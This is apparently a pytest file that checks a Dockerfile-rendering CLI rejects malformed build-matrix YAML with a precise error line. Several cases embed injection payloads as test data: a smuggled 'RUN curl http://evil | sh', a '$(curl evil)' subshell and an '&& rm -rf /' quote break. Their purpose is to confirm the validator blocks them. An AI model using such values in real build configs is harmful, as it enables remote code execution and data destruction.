"""Malformed matrices: each must exit 2 with file:line:column, the key path, no traceback, no file written."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]

GOOD = (REPO / "matrix.yaml").read_text()


def _replace(old: str, new: str, count: int = 1):
    def mutate(text: str) -> str:
        assert old in text, f"fixture drift: {old!r} not in matrix.yaml"
        return text.replace(old, new, count)

    return mutate


# (id, mutation, substring the error must hold, text whose line the error must point at or None)
CASES = [
    (
        "misspelled-key",
        _replace("    supported: [gfx908, gfx90a, gfx942, sm_80", "    suported: [gfx908, gfx90a, gfx942, sm_80"),
        "did you mean 'supported'",
        "suported:",
    ),
    ("unknown-top-level-key", _replace("tunableop:\n", "tunable_op:\n"), "did you mean 'tunableop'", "tunable_op:"),
    ("bad-yaml-indent", _replace("    kind: rocm\n", "    kind: rocm\n   bad: [\n"), "invalid YAML", None),
    (
        "duplicate-key",
        _replace('    version: "6.1"\n', '    version: "6.1"\n    version: "6.2"\n'),
        "duplicate key 'version'",
        'version: "6.2"',
    ),
    (
        "unknown-arch",
        _replace("default_arches: [gfx90a, gfx942]", "default_arches: [gfx90a, gfx9421]"),
        "closest known: gfx942",
        "default_arches: [gfx90a, gfx9421]",
    ),
    (
        "wrong-vendor-arch",
        _replace("arches: [gfx908, gfx90a, gfx942]\n", "arches: [gfx908, gfx90a, gfx942, sm_90]\n"),
        "sm_90 is not a rocm arch",
        "arches: [gfx908, gfx90a, gfx942, sm_90]",
    ),
    (
        "default-not-in-platform",
        _replace("default_arches: [gfx90a, gfx942]", "default_arches: [gfx90a, gfx942, gfx1100]"),
        "gfx1100 is not in this platform's arches",
        "default_arches: [gfx90a, gfx942, gfx1100]",
    ),
    (
        "injection-newline",
        _replace(
            "base_image: rocm/dev-ubuntu-22.04:6.1.1_hip_update",
            'base_image: "rocm/dev-ubuntu-22.04:6.1\\nRUN curl http://evil | sh"',
        ),
        "could become Dockerfile syntax",
        "RUN curl http://evil",
    ),
    (
        "injection-subshell",
        _replace('version: "6.1"', 'version: "6.1$(curl evil)"'),
        "could become Dockerfile syntax",
        "6.1$(curl evil)",
    ),
    (
        "injection-quote-in-env",
        _replace('HIP_FORCE_DEV_KERNARG: "1"', "HIP_FORCE_DEV_KERNARG: '1\" && rm -rf /'"),
        "could become Dockerfile syntax",
        "HIP_FORCE_DEV_KERNARG",
    ),
    (
        "injection-line-continuation",
        _replace('version: "6.1"', 'version: "6.1 \\\\"'),
        "could become Dockerfile syntax",
        'version: "6.1',
    ),
    (
        "unknown-component",
        _replace("components: [imagebuild-kernels, vllm-rocm,", "components: [imagebuild-kernels, vllm-rocn,"),
        "did you mean 'vllm-rocm'",
        "components: [imagebuild-kernels, vllm-rocn,",
    ),
    (
        "unknown-platform",
        _replace("platform: [rocm6.1, cuda12.1]", "platform: [rocm6.2, cuda12.1]"),
        "unknown platform 'rocm6.2'",
        "platform: [rocm6.2, cuda12.1]",
    ),
    ("bad-kind", _replace("    kind: rocm\n", "    kind: roc\n"), "did you mean 'rocm'", "kind: roc"),
    (
        "short-commit",
        _replace("commit: ca6913b3c2ffacdcb7d15e914dc34adbc6c89479", "commit: ca6913b"),
        "should match pattern",
        "commit: ca6913b",
    ),
    (
        "git-and-url",
        _replace(
            "      commit: ca6913b3c2ffacdcb7d15e914dc34adbc6c89479\n",
            "      commit: ca6913b3c2ffacdcb7d15e914dc34adbc6c89479\n      url: https://example.org/x.tar.gz\n",
        ),
        "exactly one of git, url, path",
        None,
    ),
    (
        "wheel-without-index",
        _replace("        index_url: https://download.pytorch.org/whl/cu121\n", ""),
        "needs index_url or find_links",
        None,
    ),
    (
        "exclude-matches-nothing",
        _replace("    exclude: []", "    exclude: [{platform: cuda11.8}]"),
        "matches no target",
        "exclude: [{platform: cuda11.8}]",
    ),
    ("zero-jobs", _replace("    max_jobs: 4   ", "    max_jobs: 0   "), "greater than or equal to 1", "max_jobs: 0"),
    (
        "include-duplicate-target",
        _replace("    include: []", "    include: [{platform: rocm6.1, torch: '2.3'}]"),
        "repeats",
        None,
    ),
    ("empty-file", lambda text: "", "empty", None),
    ("not-a-mapping", lambda text: "- platforms\n- torch\n", "must be a mapping", None),
    (
        "missing-section",
        # the whole section: to the next top-level key (its entries hold blank lines and comments)
        lambda text: re.sub(r"\nruntimes:\n(?:[ #].*\n|\n)*", "\n", text),
        "unknown runtime 'text-generation-inference'",
        None,
    ),
    (
        "runtime-kind-misspelled",
        _replace("    kind: tgi\n", "    kind: tgii\n"),
        "expected one of 'tgi', 'pip', 'vllm', 'sglang', got 'tgii'; did you mean 'tgi'?",
        "kind: tgii",
    ),
    (
        "runtime-kind-missing",
        _replace("    kind: tgi\n", ""),
        "runtimes.text-generation-inference.kind: expected one of 'tgi', 'pip', 'vllm', 'sglang', missing",
        "  text-generation-inference:",
    ),
    (
        "runtime-key-of-the-other-kind",
        _replace(
            "    entrypoint: text-generation-launcher\n",
            "    entrypoint: text-generation-launcher\n    requirements: x\n",
        ),
        "runtimes.text-generation-inference.requirements: unknown key 'requirements'",
        "requirements: x",
    ),
    (
        "runtime-key-misspelled",
        _replace("    builder_image: rust", "    builder_imag: rust"),
        "runtimes.text-generation-inference.builder_imag: unknown key 'builder_imag'; did you mean 'builder_image'?",
        "builder_imag:",
    ),
    (
        "pip-runtime-requirements-outside-the-repo",
        _replace(
            "    requirements: runtimes/transformers-serve/requirements.txt",
            "    requirements: ../etc/requirements.txt",
        ),
        "runtimes.transformers-serve.requirements: ",
        "requirements: ../etc/requirements.txt",
    ),
    ("bad-schema-version", _replace("schema_version: 1", "schema_version: 2"), "schema_version", "schema_version: 2"),
]


@pytest.mark.parametrize(("case", "mutate", "expected", "line_text"), CASES, ids=[c[0] for c in CASES])
def test_malformed_matrix(tmp_path: Path, cli, case, mutate, expected, line_text) -> None:
    bad = tmp_path / "matrix.yaml"
    text = mutate(GOOD)
    bad.write_text(text)
    out = tmp_path / "out"
    result = cli("--matrix", str(bad), "render", "--out", str(out))
    assert result.exit_code == 2, (result.stdout, result.stderr)
    assert result.exception is None, f"traceback instead of an error line: {result.exception!r}"
    lines = [line for line in result.stderr.splitlines() if not line.startswith("warning:")]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert expected in lines[0], lines[0]
    assert re.search(rf"{re.escape(str(bad))}(:\d+:\d+)?", lines[0]), lines[0]
    if line_text is not None:
        line_no = next(i for i, line in enumerate(text.splitlines(), 1) if line_text in line)
        assert f"{bad}:{line_no}:" in lines[0], (line_no, lines[0])
    assert not out.exists(), "nothing may be written for a bad matrix"


def test_there_are_at_least_fifteen_cases() -> None:
    assert len(CASES) >= 15


def test_traceback_only_with_debug(tmp_path: Path, cli_subprocess) -> None:
    bad = tmp_path / "matrix.yaml"
    bad.write_text(GOOD.replace("    kind: rocm\n", "    kind: roc\n"))
    plain = cli_subprocess("--matrix", str(bad), "matrix", "list")
    assert plain.exit_code == 2 and "Traceback" not in plain.stderr
    debug = cli_subprocess("--matrix", str(bad), "--debug", "matrix", "list")
    assert debug.exit_code != 0 and "Traceback" in debug.stderr


def test_missing_matrix_file(tmp_path: Path, cli) -> None:
    result = cli("--matrix", str(tmp_path / "nope.yaml"), "matrix", "list")
    assert result.exit_code == 2 and "no such matrix file" in result.stderr


def test_require_pins_makes_unpinned_sources_an_error(tmp_path: Path, cli) -> None:
    bad = tmp_path / "matrix.yaml"
    bad.write_text(GOOD.replace("require_pins: false", "require_pins: true"))
    result = cli("--matrix", str(bad), "render", "--out", str(tmp_path / "out"))
    assert result.exit_code == 2
    assert "unpinned" in result.stderr and "rocm/dev-ubuntu-22.04:6.1.1_hip_update has no digest" in result.stderr
    assert not (tmp_path / "out").exists()
